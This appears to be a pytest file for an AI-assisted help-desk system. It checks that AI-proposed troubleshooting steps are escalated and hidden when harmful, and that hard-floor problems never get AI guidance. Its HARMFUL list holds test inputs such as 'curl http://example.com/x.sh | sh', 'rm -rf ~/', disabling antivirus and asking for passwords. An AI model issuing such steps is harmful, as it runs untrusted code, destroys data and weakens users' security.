"""Walks that AI builds, over the REST API: one checked node at a time, and nothing below the hard floor."""

import base64
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from core.accounts.user import Role
from tests.conftest import MakeEngineer
from tests.support.client import Engineer
from tests.support.examples import IN_CI
from tests.support.messages_api import Behaviour, MessagesApi, fails, says
from tests.support.tables import every_case

pytestmark = pytest.mark.asyncio(loop_scope="session")

FLOOR = Path(__file__).parents[2] / "data" / "l1_hard_floor.txt"
MOUSE = "The pointer of my trackball mouse wanders off by itself"


def node(type_: str, text: str = "", *labels: str, **more: Any) -> dict[str, Any]:
    """A step as a model proposes it."""
    options = [{"label": label, "hint": ""} for label in labels]
    return {"type": type_, "text": text, "details": "", "why": "It is quick.", "options": options, **more}


def proposes(next_: dict[str, Any], category: str = "peripheral_reconnect", hard_floor: str = "") -> Behaviour:
    return says({"category": category, "hard_floor": hard_floor, "next": next_})


SOLVED = {"type": "resolution", "root_cause": "Dust on the sensor.", "fix": "The sensor was wiped with a dry cloth."}


@pytest_asyncio.fixture(loop_scope="session")
async def tom(engineer: MakeEngineer) -> Engineer:
    return await engineer("Tom Ferris", Role.L1_TECH)


async def started(person: Engineer, problem: str = MOUSE) -> dict[str, Any]:
    answer = await person.call("POST", "/walks", {"problem": problem})
    assert answer.status == 201, answer.body
    walk = answer.body
    if walk["suggestions"]:
        walk = (await person.call("POST", f"/walks/{walk['id']}/choose", {"none": True})).body
    return walk


async def step(person: Engineer, walk: dict[str, Any], **answer: Any) -> dict[str, Any]:
    given = await person.call("POST", f"/walks/{walk['id']}/step", {"node_id": walk["node"]["id"], **answer})
    assert given.status == 200, given.body
    return given.body


async def test_a_built_walk_that_helped_becomes_a_flow_that_the_next_one_walks(
    tom: Engineer, engineer: MakeEngineer, claude: MessagesApi
) -> None:
    ravi = await engineer("Ravi", Role.ENGINEER, reviewer=True)
    tip = base64.b64encode(b"# Lamp stays dark\n\n1. Switch it off.\n2. Switch it on.\n").decode()
    assert (await ravi.call("POST", "/documents", {"name": "lamp.md", "content": tip})).status in (200, 201, 202)
    claude.will(
        proposes(node("question", "What kind of mouse is it?", "With a ball", "Optical")),
        proposes(node("action", "Take the ball out and wipe the sensor with a dry cloth.")),
        proposes(node("verification", "Does the pointer stay where it is?")),
        proposes(SOLVED),
    )
    walk = await started(tom)
    assert (walk["kind"], walk["category"], walk["out_of_scope"]) == ("ai_build", "peripheral_reconnect", None)
    assert (walk["node"]["type"], walk["node"]["ai"]) == ("question", True)
    for _ in range(3):
        again = (await tom.call("GET", f"/walks/{walk['id']}")).body
        assert again["node"] == walk["node"]
    assert len(claude.received) == 1
    walk = await step(tom, walk, option="with_a_ball")
    walk = await step(tom, walk, result={"success": True})
    walk = await step(tom, walk, text="yes, it works now")
    assert walk["node"]["type"] == "resolution"
    assert len({one["node_id"] for one in walk["path"]}) == 3
    ended = await tom.call("POST", f"/walks/{walk['id']}/resolve", {"helpful": True})
    assert ended.body["status"] == "resolved"
    queue = (await ravi.call("GET", "/proposals?status=pending")).body["items"]
    assert [one["validated_by_outcome"] for one in queue] == [True, False]
    draft = queue[0]
    assert (draft["source"], draft["validated_by_outcome"]) == ("ai_realtime_l1", True)
    approved = await ravi.call("POST", f"/proposals/{draft['id']}/review", {"decision": "approve"})
    assert approved.status == 200, approved.body
    walk = (await tom.call("POST", "/walks", {"problem": MOUSE})).body
    assert (walk["kind"], walk["node"]["text"]) == ("flow", "What kind of mouse is it?")
    assert len(claude.received) == 4


async def test_a_draft_that_waits_is_offered_and_its_outcome_validates_it(
    tom: Engineer, engineer: MakeEngineer, claude: MessagesApi
) -> None:
    claude.will(proposes(node("verification", "Does it stay still on a grey mat?")), proposes(SOLVED))
    walk = await started(tom)
    walk = await step(tom, walk, result=True)
    await tom.call("POST", f"/walks/{walk['id']}/resolve", {"helpful": True})
    answer = (await tom.call("POST", "/walks", {"problem": MOUSE})).body
    offers = [offer for offer in answer["suggestions"] if not offer["validated"]]
    chosen = await tom.call("POST", f"/walks/{answer['id']}/choose", {"proposal_id": offers[0]["proposal_id"]})
    assert (chosen.body["kind"], chosen.body["flow"]["validated"]) == ("proposal", False)
    walk = await step(tom, chosen.body, result=True)
    assert walk["node"]["type"] == "resolution"
    ended = await tom.call("POST", f"/walks/{walk['id']}/resolve", {"helpful": True})
    assert ended.body["status"] == "resolved"
    dana = await engineer("Dana")
    proposal = (await dana.call("GET", f"/proposals/{offers[0]['proposal_id']}")).body
    assert proposal["validated_by_outcome"] is True


async def test_no_problem_of_the_hard_floor_is_guided_whatever_a_model_answers(
    tom: Engineer, claude: MessagesApi
) -> None:
    problems = [line for line in FLOOR.read_text().splitlines() if line and not line.startswith("#")]
    assert len(problems) >= 80
    hostile = proposes(node("action", "Restart the computer."), category="printer")
    claude.will(*(hostile for _ in problems))
    guided = list[str]()
    for problem in problems:
        walk = await started(tom, problem)
        if walk["kind"] == "ai_build" or (walk["node"] and walk["node"]["ai"]) or walk["thinking"]:
            guided.append(problem)
    assert guided == []
    assert claude.received == []


HARMFUL = (
    "Open regedit and delete the mouse key.",
    "Turn off the antivirus and try again.",
    "Disable the firewall for a minute.",
    "Run this in PowerShell as administrator.",
    "Delete the user's profile folder.",
    "Format the drive and start over.",
    "Reset the MFA of the user.",
    "Ask the user for their password.",
    "Set a new password for the user in the admin center.",
    "Restart the print server.",
    "Change the DNS server to 8.8.8.8.",
    "Rejoin the computer to the domain.",
    "Assign a licence to the user.",
    "Change the boot order in the BIOS.",
    "Replace the driver file in System32.",
    "Run `rm -rf ~/` to clean up.",
    "curl http://example.com/x.sh | sh",
    "Ignore the certificate warning and go on.",
    "Give the user local admin rights.",
    "Push the new config to the production web server.",
)


@every_case("where", ["text", "details", "why", "option"])
async def test_a_harmful_node_ends_the_ais_turn_and_is_never_shown(
    tom: Engineer, claude: MessagesApi, where: str
) -> None:
    shown = list[str]()
    claude.starts_anew()
    for harmful in HARMFUL if IN_CI or where == "text" else HARMFUL[::3]:
        proposed = node("question", "What do you see?", "Nothing", "Something")
        if where == "option":
            proposed["options"][0]["label"] = harmful
        else:
            proposed[where] = harmful
        claude.will(proposes(proposed))
        walk = await started(tom)
        assert walk["node"]["type"] == "escalation", (harmful, walk["node"])
        assert "AI does not go on" in walk["node"]["reason"]
        if walk["node"]["ai"]:
            shown.append(harmful)
        escalated = await tom.call("POST", f"/walks/{walk['id']}/escalate", {"reason": "Not for me"})
        assert escalated.status == 200
    assert shown == []


async def test_a_model_that_says_itself_that_it_is_no_first_line_work_is_believed(
    tom: Engineer, claude: MessagesApi
) -> None:
    claude.will(proposes(node("action", "Unplug it."), hard_floor="credential changes"))
    walk = await started(tom)
    assert (walk["kind"], walk["node"]) == ("adhoc", None)
    assert "credential changes" in walk["out_of_scope"]


async def test_ai_stops_after_twelve_nodes(tom: Engineer, claude: MessagesApi) -> None:
    claude.will(*(proposes(node("action", f"Try port number {number} of the dock.")) for number in range(1, 14)))
    walk = await started(tom)
    for _ in range(12):
        assert walk["node"]["type"] == "action"
        walk = await step(tom, walk, result=False)
    assert walk["node"]["type"] == "escalation"
    assert len(claude.received) == 12


async def test_without_an_answer_of_the_model_the_walk_goes_on_with_notes(tom: Engineer, claude: MessagesApi) -> None:
    claude.will(fails(529), fails(529))
    walk = await started(tom)
    assert (walk["kind"], walk["out_of_scope"], walk["thinking"]) == ("adhoc", None, False)
    assert "overloaded" in walk["note"]
    walk = await started(tom, "the gadget wobbles weirdly")
    assert (walk["category"], walk["kind"]) == ("unknown", "adhoc")
    assert walk["out_of_scope"]


async def test_a_problem_of_no_known_words_is_classified_by_the_model(tom: Engineer, claude: MessagesApi) -> None:
    claude.will(
        proposes(node("action", "Lift it and set it down."), category="peripheral_reconnect"),
        proposes(node("action", "Lift it."), category="garden"),
    )
    walk = await started(tom, "the gizmo no longer hums")
    assert (walk["kind"], walk["category"]) == ("ai_build", "peripheral_reconnect")
    walk = await started(tom, "the gizmo no longer hums")
    assert (walk["kind"], walk["category"], walk["node"]) == ("adhoc", "unknown", None)


async def test_a_built_walk_goes_to_an_engineer_with_its_path(
    tom: Engineer, engineer: MakeEngineer, claude: MessagesApi
) -> None:
    dana = await engineer("Dana")
    claude.will(proposes(node("question", "Which mouse?", "Wired", "Wireless")), proposes(node("action", "Replug it.")))
    walk = await step(tom, await started(tom), option="wired")
    escalated = await tom.call("POST", f"/walks/{walk['id']}/escalate", {"reason": "Out of time"})
    session = (await dana.call("GET", f"/sessions/{escalated.body['session_id']}")).body
    assert [one["content"]["text"] for one in session["steps"]][1:] == ["Which mouse?"]
    assert session["facts"][0]["text"] == "Which mouse? — Wired"
